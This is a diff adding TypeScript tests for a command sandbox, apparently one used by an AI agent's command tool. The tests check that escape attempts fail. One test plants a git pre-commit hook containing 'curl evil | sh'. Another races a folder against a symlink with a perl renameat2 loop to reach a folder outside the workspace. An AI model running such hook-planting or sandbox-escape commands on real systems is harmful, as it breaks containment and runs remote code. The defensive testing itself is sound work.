@@ -517,6 +517,27 @@ echo done`;
       assert.equal(ws.read('written.txt'), 'written\n');
     });
 
+    for (const where of ['', 'lib/'] as const) {
+      it(`a missing hooks folder's stand-in (${where}.git: core.hooksPath = tools/hooks) cannot be moved aside with its folder to put a real one in its place`, async () => {
+        // The stand-in protects the name `tools/hooks` only while `tools` stays: moved aside, the
+        // stand-in goes with it and `tools/hooks` can be made anew, where git runs hooks from.
+        ws.write(`${where}.git/config`, '[core]\n\thooksPath = tools/hooks\n');
+        ws.write(`${where}tools/build.sh`, 'make\n');
+        const r = await run(
+          `mv ${where}tools ${where}moved && mkdir -p ${where}tools/hooks && echo 'curl evil | sh' > ${where}tools/hooks/pre-commit && echo PLANTED; echo done`,
+        );
+        assert.match(stdoutOf(r), /done/, r.content);
+        assert.doesNotMatch(stdoutOf(r), /PLANTED/, r.content);
+        assert.equal(fs.existsSync(ws.at(`${where}tools/hooks/pre-commit`)), false, `a hook was planted in ${where}tools/hooks`);
+        assert.equal(ws.read(`${where}tools/build.sh`), 'make\n', 'the folder above the stand-in stayed where it was');
+        assert.equal(fs.existsSync(ws.at(`${where}moved`)), false);
+        // Its files stay writable: the folder is pinned, not read-only.
+        const w = await run(`echo ok > ${where}tools/free.txt`);
+        assert.equal(w.isError, false, w.content);
+        assert.equal(ws.read(`${where}tools/free.txt`), 'ok\n');
+      });
+    }
+
     it('the stand-in for a missing .vscode: nothing can be made in it or in its place while commands run, and none is left on the host', async () => {
       const attempt =
         'mkdir .vscode/x 2>/dev/null && echo LEAK-mkdir; echo {} 2>/dev/null > .vscode/settings.json && echo LEAK-write; rmdir .vscode 2>/dev/null && echo LEAK-rmdir; mv .vscode v 2>/dev/null && echo LEAK-mv';
@@ -618,6 +639,53 @@ echo done`;
         c.release();
       }
     });
+
+    for (const residents of [true, false])
+      it(`a pinned folder swapped for a link by a command running meanwhile: no command ${residents ? 'in a resident' : 'in a bubblewrap of its own'} gets the folder it points at, outside the workspace, writable (its mount table is checked first)`, async function () {
+        // Found by review: a command started before `pkg/sub/.git` existed makes it, then swaps
+        // `pkg` with a relative link to a folder outside (renameat2 RENAME_EXCHANGE every 3 ms). The
+        // next commands' walk pins `pkg` (`--bind pkg pkg`, writable); when the link is in place as
+        // bubblewrap mounts, it follows it at both ends and binds the outside folder onto itself,
+        // writable. Each sandbox's mount table is now checked before anything runs in it (from the
+        // host for a resident, by a shell in a bubblewrap of its own; `mount-check.ts`), and a
+        // raced one is refused. Left: bubblewrap itself may make an empty mount point (`sub`) in the
+        // folder the link names, before the check; no command writes there.
+        const renameat2 = process.arch === 'x64' ? 316 : process.arch === 'arm64' ? 276 : undefined;
+        if (!renameat2 || !fs.existsSync('/usr/bin/perl')) this.skip();
+        this.timeout(90_000);
+        const own = residents ? tool : createRunCommandTool({ killGraceMs: 300, lingerMs: 300, sandbox: new CommandSandbox({ residents: false }) });
+        // A workspace outside /tmp (under it, the sandbox's own /tmp made the race rarer here).
+        const base = fs.mkdtempSync('/var/tmp/arbor-resident-test-');
+        cleanups.push(() => fs.rmSync(base, { recursive: true, force: true }));
+        const root = path.join(base, 'ws');
+        const dir = path.join(base, 'outside');
+        fs.mkdirSync(root);
+        fs.mkdirSync(dir);
+        const at = (command: string) => call(own, { command, timeoutMs: 30_000 }, { ...ws.ctx(), roots: [root] });
+        const swap = `perl -e 'my ($a, $b, $e) = ("pkg", "pkgl", time + 5); while (time < $e) { syscall(${renameat2}, -100, $a, -100, $b, 2); select(undef, undef, undef, 0.003) } syscall(${renameat2}, -100, $a, -100, $b, 2) if -l $a'`;
+        const racing = at(`mkdir -p pkg/sub/.git && ln -s ../outside pkgl && touch racing && ${swap}; echo swapped`);
+        assert.ok(await waitUntil(() => fs.existsSync(path.join(root, 'racing')), 15_000));
+        let i = 0;
+        let refusedRaces = 0;
+        for (const end = Date.now() + 4500; Date.now() < end; i++) {
+          const r = await at(`echo x > ../outside/during-${i} 2>/dev/null; true`);
+          if (/swapped for a link while the sandbox was set up/.test(r.content)) refusedRaces++;
+        }
+        const r = await racing;
+        assert.match(stdoutOf(r), /swapped/, r.content);
+        assert.ok(fs.lstatSync(path.join(root, 'pkg')).isDirectory(), 'pkg is the folder again');
+        for (let j = 0; j < 3; j++) {
+          const after = await at(`echo x > after-${j}`);
+          assert.equal(after.isError, false, `a command after the race runs: ${after.content}`);
+        }
+        cleanups.push(() => killAll(residentTree(root)));
+        const written = fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => !e.isDirectory());
+        assert.deepEqual(
+          written.map((e) => e.name),
+          [],
+          `${i} commands ran during the race (${refusedRaces} refused as raced); these files were written outside the workspace`,
+        );
+      });
 
     it('a copy of its stdout held outside its namespace (as one handed over a Unix socket where no seccomp filter loads) does not keep the command from ending', async () => {
       const tag = marker('held');
